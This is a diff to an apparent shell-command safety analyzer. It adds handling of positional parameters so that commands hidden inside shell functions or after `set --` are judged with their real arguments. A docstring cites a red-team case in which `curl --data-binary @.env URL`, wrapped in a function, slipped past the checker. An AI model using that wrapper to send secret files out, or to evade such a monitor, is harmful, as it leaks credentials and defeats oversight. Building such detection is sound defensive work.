@@ -51,12 +51,47 @@ def add_hook(an: Analyzer, code: str) -> None:
         an.r.add("dynamic", f"more than {MAX_HOOKS} traps and handlers set in this session, too many to review")
 
 
-def called(an: Analyzer, name: str, cwd: str | None, depth: int, inlined: bool = False) -> None:
+# a positional parameter standing as a word of its own: `"$@"`, `$*`, `"$1"`, `${2}`
+_POSITIONAL = re.compile(r'"\$\{?([@*1-9])\}?"|(?<!["\w\\$])\$\{?([@*1-9])\}?(?![\w"])')
+_SET_ARGS = re.compile(r"(?:^|[;&|\n({]\s*)set\s+--\s+([^;&|\n)}]*)")
+
+
+def with_arguments(code: str, args: list[str]) -> str | None:
+    """``code`` with its positional parameters as ``args`` (rt50: `f() { curl "$@"; }; f --data-binary @.env URL` and
+    `set -- … ; curl "$@"` were judged as curl with nothing known to send); None when it names none, or an argument
+    is only known when it runs."""
+    if not args or any(c in a for a in args for c in "$`"):
+        return None
+
+    def value(m: re.Match[str]) -> str:
+        key = m.group(1) or m.group(2)
+        if key in "@*":
+            return shlex.join(args)
+        return shlex.quote(args[int(key) - 1]) if int(key) <= len(args) else "''"
+
+    out = _POSITIONAL.sub(value, code)
+    return None if out == code else out
+
+
+def set_arguments(command: str) -> str | None:
+    """The rest of a line after `set -- ARGS`, with its positional parameters as ARGS."""
+    if (m := _SET_ARGS.search(command)) is None:
+        return None
+    try:
+        args = shlex.split(m.group(1))
+    except ValueError:
+        return None
+    return with_arguments(command[m.end():].lstrip(" \t\n;&|"), args)
+
+
+def called(an: Analyzer, name: str, cwd: str | None, depth: int, inlined: bool = False, args: list[str] = ()) -> None:
     """``f`` where the session defined ``f()``: its body runs here, with the files as they are now (``inlined``: the
-    line's walk visited the body in the call's place, ``safety.loopcall``)."""
+    line's walk visited the body in the call's place, ``safety.loopcall``), and with ``args`` as its ``$1``…"""
     if name not in an.functions or name in an.expanding:
         return
     an.expanding.add(name)
+    if (reading := with_arguments(an.functions[name], list(args))) is not None:
+        an.line(reading, depth + 1, cwd)
     # what the body does to PATH stands after the call, as in bash (its assignments are judged here, not where it
     # was defined: `f() { . ./env.sh; }`, env.sh rewritten to put ./bin first, `f`, then `ls`); a restore of a copy
     # of PATH (a virtualenv's `deactivate`) adds nothing (safety.lookup)
